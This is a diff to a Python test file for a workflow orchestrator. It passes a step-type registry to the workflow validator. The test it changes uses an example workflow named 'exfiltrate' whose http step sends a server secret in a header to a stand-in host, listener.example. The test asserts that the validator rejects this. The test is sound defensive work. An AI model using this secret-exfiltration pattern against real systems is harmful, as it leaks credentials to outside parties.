@@ -25,6 +25,7 @@ from orchestrator.services.step_runner import StepRunnerPorts, StepRunRequest, r
 from orchestrator.services.workflow_plan import execution_context
 from orchestrator.steps import registry
 from orchestrator.steps.base import StepConfig, StepContext, StepResult
+from orchestrator.steps.registry import STEP_TYPES
 
 SERVER_ENV = {
     "ORCHESTRATOR_ADMIN_KEY": "ork_the-servers-admin-key",
@@ -95,7 +96,7 @@ def test_a_server_setting_is_a_validation_error(name: str):
     raw = {"name": "exfiltrate", "steps": [{"id": "send", "type": "http", "config": {
         "url": "https://listener.example/", "headers": {"X-Admin": "{{secrets." + name + "}}"}}}]}
     # When validated / Then it is refused at the header's location, naming why
-    problems = validate_workflow(raw)
+    problems = validate_workflow(raw, STEP_TYPES)
     assert [p.location for p in problems] == ["steps[0].config.headers.X-Admin"]
     assert "reserved" in problems[0].message
 
